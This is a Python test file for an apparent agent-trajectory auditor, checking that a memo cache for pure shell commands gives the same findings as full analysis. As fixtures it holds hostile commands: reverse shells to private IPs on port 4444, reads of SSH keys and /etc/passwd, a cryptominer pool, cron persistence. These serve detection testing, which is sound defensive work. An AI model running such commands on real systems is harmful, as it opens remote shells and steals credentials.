"""The memo of plain shell commands: sound (same findings as a full analysis) and bounded."""

from __future__ import annotations

import json
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from watchkeeper.audit import Auditor
from watchkeeper.audit._context import TrajectoryContext
from watchkeeper.audit._memo import MAX_TEXT, Effects, Memo, context_key, fresh_key, is_pure
from watchkeeper.audit.extract import events_for_tool_call
from watchkeeper.events import Event
from watchkeeper.normalize import CATEGORY_FIELDS, field_reader
from watchkeeper.trajectories import Step, ToolCall, ToolKind, Trajectory, read_trajectories

DATA = Path(__file__).resolve().parents[1] / "data" / "corpus"


def _corpus() -> list[str]:
    out = []
    for name in ("benign.jsonl", "dual_use.jsonl", "malicious.jsonl"):
        for line in (DATA / name).read_text(encoding="utf-8").splitlines():
            if line.strip():
                out.append(json.loads(line)["command"])
    return out


COMMANDS = _corpus()
_READERS = {c: field_reader(c, tuple(t)) for c, t in CATEGORY_FIELDS.items()}


def _shape(events: list[Event]) -> list[tuple[object, ...]]:
    """Everything a rule or a finding can see of the events (attribution left out)."""
    return [(e.category, e.span, tuple(_READERS[e.category](e))) for e in events]


def _busy_context(files: bool) -> TrajectoryContext:
    """A context with variables and (``files``) remembered files a pure command must not depend on."""
    ctx = TrajectoryContext(episode_id="busy", cwd="/srv/app", user="agent")
    ctx.env.update({"HOST": "10.1.2.3", "PORT": "4444", "PATH": "/tmp/x", "X": "nc -e /bin/sh"})
    ctx.for_step(0)
    if files:
        ctx.remember("/tmp/zz_payload_unrelated.sh", "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1")
    return ctx


def _effects(call: ToolCall, ctx: TrajectoryContext) -> tuple[list[Event], Effects]:
    cwd, env, files = ctx.cwd, dict(ctx.env), dict(ctx.files)
    events = events_for_tool_call(call, ctx.for_step(1, call))
    return events, Effects.between(cwd, env, files, ctx)


def _check_pure(command: str) -> bool:
    """Assert the memo's properties for ``command`` (with and without remembered files in the
    context); False when it is not pure in either."""
    return any([_check_pure_in(command, _busy_context(files=True)),
                _check_pure_in(command, _busy_context(files=False))])


def _check_pure_in(command: str, busy: TrajectoryContext) -> bool:
    if not is_pure(command, busy):
        return False
    call = ToolCall(id="t", name="bash", kind=ToolKind.SHELL, command=command)
    fresh = TrajectoryContext(cwd=busy.cwd, user=busy.user, env=dict(busy.env))
    assert context_key(fresh, command) == context_key(busy, command)
    in_busy, busy_effects = _effects(call, busy)
    in_fresh, fresh_effects = _effects(call, fresh)
    assert _shape(in_busy) == _shape(in_fresh), f"pure command depends on the context: {command!r}"
    assert busy_effects == fresh_effects, f"pure command's effects depend on the context: {command!r}"
    # replaying the effects on a third context gives the state the analysis left
    replay = TrajectoryContext(cwd=busy.cwd, user=busy.user, env=dict(busy.env))
    fresh_effects.apply(replay.for_step(1, call))
    assert (replay.cwd, replay.env) == (fresh.cwd, fresh.env)
    assert replay.files == fresh.files
    return True


def test_corpus_pure_commands() -> None:
    pure = sum(_check_pure(c) for c in COMMANDS)
    # most corpus commands are pure; the memo is pointless otherwise
    assert pure > len(COMMANDS) * 3 // 4


_WORDS = st.sampled_from([
    "ls", "cat", "git", "status", "cp", "a.txt", "b.txt", "/etc/passwd", "~/.ssh/id_rsa", "nc", "-e",
    "/bin/sh", "10.0.0.1", "4444", "curl", "http://example.invalid/x.sh", "bash", "-c", "sh", "-i",
    "echo", "x", "cd", "/tmp", "tee", "out", "python3", "-m", "pytest", "ssh", "-R", "8080:localhost:22",
    "crontab", "-l", "base64", "-d", "find", ".", "-name", "'*.py'", '"a b"', "xmrig", "-o",
    "stratum+tcp://pool.invalid:3333", "zz_payload_unrelated.sh", "./run.sh", "source", "env",
    "X=1", "$X", "${HOST}:$PORT", "$(id)", "`whoami`", "nmap", "-sS", "192.168.0.0/24", "sudo", "chmod", "+x", "tar", "czf", "-", "dd", "if=/dev/zero",
])
_OPS = st.sampled_from([" ", " ", " ", " | ", " && ", " ; ", " & ", " 2>&1 ", " > f ", " >> log ",
                        " 2>/dev/null ", " < in "])


@st.composite
def _commands(draw: st.DrawFn) -> str:
    words = draw(st.lists(_WORDS, min_size=1, max_size=8))
    out = words[0]
    for w in words[1:]:
        out += draw(_OPS) + w
    return out


@settings(max_examples=300, deadline=None)
@given(_commands())
def test_generated_pure_commands(command: str) -> None:
    _check_pure(command)


def test_what_is_not_pure() -> None:
    ctx = TrajectoryContext()
    assert is_pure("echo $HOME `id`", ctx)
    assert not is_pure("x" * 5000, ctx)
    ctx.remember("/tmp/run.sh", "nc -e /bin/sh 10.0.0.1 4444")
    assert not is_pure("F=/tmp/run.sh; bash $F", ctx)
    assert not is_pure("bash /tmp/run.sh", ctx)
    assert not is_pure("cp run.sh /etc/cron.daily/x", ctx)
    assert is_pure("ls -la 2>&1 | grep x", ctx)
    assert is_pure("cd /tmp && echo hi > f", ctx)


def test_effects_are_replayed_on_a_hit() -> None:
    auditor = Auditor.from_rules()
    # step 0 writes a script (a pure command, memoised the second time), step 1 runs it
    writes = "cd /tmp && echo 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1' > job.sh"
    runs = "bash /tmp/job.sh"
    for tid in ("a", "b"):
        t = Trajectory(id=tid, source="mem", format="test", steps=(
            Step(index=0, tool_calls=(ToolCall(id="w", name="bash", kind=ToolKind.SHELL, command=writes,
                                               arguments_text=writes),)),
            Step(index=1, tool_calls=(ToolCall(id="r", name="bash", kind=ToolKind.SHELL, command=runs,
                                               arguments_text=runs),)),
        ))
        verdict = auditor.audit(t)
        assert any(f.step == 1 and f.behaviour == "reverse_shell" for f in verdict.findings), tid
    assert auditor.memo is not None and auditor.memo.hits >= 1


def _trajectories() -> list[Trajectory]:
    out = [t for t in read_trajectories(sorted((DATA / "trajectories").glob("*.jsonl")))
           if isinstance(t, Trajectory)]
    assert out
    return out


def test_memo_gives_the_same_verdicts_as_full_analysis() -> None:
    with_memo = Auditor.from_rules()
    without = Auditor(with_memo.engine, memo_size=0)
    trajectories = _trajectories()
    # commands repeated across trajectories, as in RL rollouts of one task
    trajectories += [
        Trajectory(id=f"r{i}", source="mem", format="test", steps=tuple(
            Step(index=j, tool_calls=(ToolCall(id=f"c{j}", name="bash", kind=ToolKind.SHELL,
                                               command=c, arguments_text=c),))
            for j, c in enumerate(COMMANDS[i::7][:40])
        ))
        for i in range(7)
    ] * 2
    for t in trajectories:
        assert with_memo.audit(t) == without.audit(t), t.id
    assert with_memo.memo is not None and with_memo.memo.hits > 0


def test_memo_is_bounded() -> None:
    memo: Memo[int] = Memo(size=4)
    for i in range(10):
        memo.put(i, i)
        assert len(memo) <= 4
    assert memo.get(9) == 9
    assert memo.get(0) is None
    by_size: Memo[int] = Memo(size=100, max_chars=10)
    for i in range(10):
        by_size.put(i, i, chars=4)
        assert len(by_size) <= 2


def test_single_call_trajectories_on_a_hit_match_full_analysis() -> None:
    """A trajectory of one call whose command is in the memo takes a shorter path: the same
    verdict as full analysis (findings, order, risk, max severity), whatever the step index."""
    with_memo = Auditor.from_rules()
    without = Auditor(with_memo.engine, memo_size=0)
    singles = [
        Trajectory(id=f"s{i}-{rep}", source=f"mem:{i}", format="test", steps=(
            Step(index=i % 3, tool_calls=(ToolCall(id=f"c{i}-{rep}", name="bash", kind=ToolKind.SHELL,
                                                    command=c, arguments_text=c),)),))
        for rep in range(2) for i, c in enumerate(COMMANDS)
    ]
    flagged = 0
    for t in singles:
        got = with_memo.audit(t)
        assert got == without.audit(t), t.id
        flagged += bool(got.findings)
    assert with_memo.memo is not None
    assert with_memo.memo.hits >= len(COMMANDS) // 2  # the second round hit
    assert flagged > 100  # the corpus's malicious commands were among them


@given(st.text(max_size=40))
def test_fresh_key_is_the_key_of_a_fresh_context(text):
    for command in (text, "x" * MAX_TEXT + text, "y" * (MAX_TEXT - len(text)) + text):
        fresh = TrajectoryContext()
        expected = context_key(fresh, command) if is_pure(command, fresh) else None
        assert fresh_key(command) == expected
